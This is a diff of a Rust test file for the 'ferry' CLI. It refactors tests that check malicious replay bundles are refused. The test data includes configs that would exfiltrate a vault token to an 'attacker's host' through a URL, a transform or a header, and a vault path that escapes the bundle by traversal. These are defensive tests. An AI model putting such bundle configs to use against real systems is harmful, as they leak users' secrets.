@@ -4,32 +4,19 @@
 //! attacker's host and must see no connection). An honest bundle whose transform keys
 //! are vault references still replays, with throwaway keys and no vault.
 
+mod support;
+
 use std::net::TcpListener;
 use std::path::Path;
 use std::process::Output;
 
-use assert_cmd::Command;
+use support::cli::{ferry_in, out as text, Setup};
+use support::folder;
 
 const PASSPHRASE: &str = "bundle attack test passphrase";
 
 fn ferry(dir: &Path, args: &[&str], stdin: Option<&str>) -> Output {
-    let mut c = Command::cargo_bin("ferry").unwrap();
-    c.current_dir(dir)
-        .env("FERRY_PASSPHRASE", PASSPHRASE)
-        .env_remove("FERRY_MASTER_KEY")
-        .args(args);
-    if let Some(s) = stdin {
-        c.write_stdin(s);
-    }
-    c.output().unwrap()
-}
-
-fn text(o: &Output) -> String {
-    format!(
-        "{}{}",
-        String::from_utf8_lossy(&o.stdout),
-        String::from_utf8_lossy(&o.stderr)
-    )
+    ferry_in(dir).passphrase(PASSPHRASE).run(args, stdin)
 }
 
 /// The attacker's host: a loopback port that must never be connected to.
@@ -56,7 +43,7 @@ impl Listener {
 /// A client folder with a vault holding `api_token`, and a bundle `b` in it whose
 /// `replay.toml` is `replay` (`kind`: what bundle.json says the replay does).
 fn bundle(dir: &Path, kind: &str, replay: &str) -> std::path::PathBuf {
-    std::fs::write(dir.join("sync.toml"), "client = \"acme\"\n").unwrap();
+    folder::write(dir, "sync.toml", "client = \"acme\"\n");
     let o = ferry(
         dir,
         &["secrets", "set", "api_token"],
@@ -74,15 +61,15 @@ fn bundle(dir: &Path, kind: &str, replay: &str) -> std::path::PathBuf {
         "replay": kind,
         "error": "cast of `name` failed",
     });
-    std::fs::write(b.join("bundle.json"), meta.to_string()).unwrap();
-    std::fs::write(
-        b.join("schema.json"),
+    folder::write(&b, "bundle.json", meta.to_string());
+    folder::write(
+        &b,
+        "schema.json",
         r#"[{"name":"id","type":"int64","nullable":false},{"name":"name","type":"string","nullable":true}]"#,
-    )
-    .unwrap();
-    std::fs::write(b.join("rows.jsonl"), "{\"id\":1,\"name\":\"Ann\"}\n").unwrap();
-    std::fs::write(b.join("exchanges.jsonl"), "").unwrap();
-    std::fs::write(b.join("replay.toml"), replay).unwrap();
+    );
+    folder::write(&b, "rows.jsonl", "{\"id\":1,\"name\":\"Ann\"}\n");
+    folder::write(&b, "exchanges.jsonl", "");
+    folder::write(&b, "replay.toml", replay);
     b
 }
 
@@ -106,28 +93,40 @@ format = "jsonl"
 name = "people"
 "#;
 
+/// Each `(kind, replay, why)` of `cases`: a bundle in `dir` whose `replay.toml` is
+/// `replay` is refused for `why`.
+fn refused_all(dir: &Path, listener: &Listener, cases: &[(&str, String, &str)]) {
+    for (kind, replay, why) in cases {
+        let b = bundle(dir, kind, replay);
+        refused(dir, &b, listener, why);
+    }
+}
+
 #[test]
 fn a_bundle_naming_a_network_source_is_refused() {
     let tmp = tempfile::tempdir().unwrap();
     let l = Listener::new();
     let port = l.port();
-    let b = bundle(
+    refused_all(
         tmp.path(),
-        "rows",
-        &format!(
-            "client = \"acme\"\n[source]\ntype = \"postgres\"\nurl = \"postgres://postgres@127.0.0.1:{port}/test\"\n{HONEST_TAIL}"
-        ),
+        &l,
+        &[
+            (
+                "rows",
+                format!(
+                    "client = \"acme\"\n[source]\ntype = \"postgres\"\nurl = \"postgres://postgres@127.0.0.1:{port}/test\"\n{HONEST_TAIL}"
+                ),
+                "its source is `postgres`",
+            ),
+            (
+                "rows",
+                format!(
+                    "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}\"\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
+                ),
+                "its source is `http`",
+            ),
+        ],
     );
-    refused(tmp.path(), &b, &l, "its source is `postgres`");
-
-    let b = bundle(
-        tmp.path(),
-        "rows",
-        &format!(
-            "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}\"\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
-        ),
-    );
-    refused(tmp.path(), &b, &l, "its source is `http`");
 }
 
 #[test]
@@ -135,44 +134,35 @@ fn a_bundle_sending_a_secret_is_refused() {
     let tmp = tempfile::tempdir().unwrap();
     let l = Listener::new();
     let port = l.port();
-    // a destination on the attacker's host, the token in its URL
-    let b = bundle(
+    refused_all(
         tmp.path(),
-        "rows",
-        &format!(
-            "client = \"acme\"\n[source]\ntype = \"file\"\n[destination]\ntype = \"http\"\nurl = \"http://127.0.0.1:{port}/?t=${{secret:api_token}}\"\n[[streams]]\nname = \"people\"\n"
-        ),
-    );
-    refused(tmp.path(), &b, &l, "its destination is `http`");
-
-    // a reference in the stream's steps
-    let b = bundle(
-        tmp.path(),
-        "rows",
-        &format!(
-            "client = \"acme\"\n[source]\ntype = \"file\"\n{HONEST_TAIL}transforms = [{{ type = \"derive\", column = \"x\", expr = \"\\\"${{secret:api_token}}\\\"\", as = \"string\" }}]\n"
-        ),
-    );
-    refused(
-        tmp.path(),
-        &b,
         &l,
-        "`streams.transforms[0].expr` holds a reference",
-    );
-
-    // an HTTP replay whose source would send the token in a header to the recorded API
-    let b = bundle(
-        tmp.path(),
-        "http",
-        &format!(
-            "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}/v1\"\nheaders = {{ X-Leak = \"t=${{env:HOME}}\" }}\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
-        ),
-    );
-    refused(
-        tmp.path(),
-        &b,
-        &l,
-        "`source.headers.X-Leak` holds a reference",
+        &[
+            // a destination on the attacker's host, the token in its URL
+            (
+                "rows",
+                format!(
+                    "client = \"acme\"\n[source]\ntype = \"file\"\n[destination]\ntype = \"http\"\nurl = \"http://127.0.0.1:{port}/?t=${{secret:api_token}}\"\n[[streams]]\nname = \"people\"\n"
+                ),
+                "its destination is `http`",
+            ),
+            // a reference in the stream's steps
+            (
+                "rows",
+                format!(
+                    "client = \"acme\"\n[source]\ntype = \"file\"\n{HONEST_TAIL}transforms = [{{ type = \"derive\", column = \"x\", expr = \"\\\"${{secret:api_token}}\\\"\", as = \"string\" }}]\n"
+                ),
+                "`streams.transforms[0].expr` holds a reference",
+            ),
+            // an HTTP replay whose source would send the token in a header to the recorded API
+            (
+                "http",
+                format!(
+                    "client = \"acme\"\n[source]\ntype = \"http\"\nbase_url = \"http://127.0.0.1:{port}/v1\"\nheaders = {{ X-Leak = \"t=${{env:HOME}}\" }}\nstreams = [{{ name = \"people\", path = \"/p\" }}]\n{HONEST_TAIL}"
+                ),
+                "`source.headers.X-Leak` holds a reference",
+            ),
+        ],
     );
 }
 
@@ -181,21 +171,25 @@ fn a_bundle_with_a_vault_of_its_own_is_refused() {
     let tmp = tempfile::tempdir().unwrap();
     let l = Listener::new();
     let outside = tmp.path().join(".ferry/secrets.vault");
-    let b = bundle(
+    refused_all(
         tmp.path(),
-        "rows",
-        &format!(
-            "client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"{}\"\n{HONEST_TAIL}",
-            outside.display()
-        ),
+        &l,
+        &[
+            (
+                "rows",
+                format!(
+                    "client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"{}\"\n{HONEST_TAIL}",
+                    outside.display()
+                ),
+                "is outside the bundle",
+            ),
+            (
+                "rows",
+                format!("client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"../.ferry/secrets.vault\"\n{HONEST_TAIL}"),
+                "is outside the bundle",
+            ),
+        ],
     );
-    refused(tmp.path(), &b, &l, "is outside the bundle");
-    let b = bundle(
-        tmp.path(),
-        "rows",
-        &format!("client = \"acme\"\n[source]\ntype = \"file\"\n[run]\nvault = \"../.ferry/secrets.vault\"\n{HONEST_TAIL}"),
-    );
-    refused(tmp.path(), &b, &l, "is outside the bundle");
 }
 
 #[test]
@@ -209,14 +203,9 @@ fn an_honest_bundle_replays_with_throwaway_keys_and_no_vault() {
         ),
     );
     // no key in the environment and no `hash_key` in any vault: nothing is opened
-    let o = Command::cargo_bin("ferry")
-        .unwrap()
-        .current_dir(tmp.path())
-        .env_remove("FERRY_PASSPHRASE")
-        .env_remove("FERRY_MASTER_KEY")
-        .args(["replay", b.to_str().unwrap()])
-        .output()
-        .unwrap();
+    let o = ferry_in(tmp.path())
+        .no_vault_key()
+        .run(&["replay", b.to_str().unwrap()], None);
     let out = text(&o);
     assert_eq!(o.status.code(), Some(0), "{out}");
     assert!(
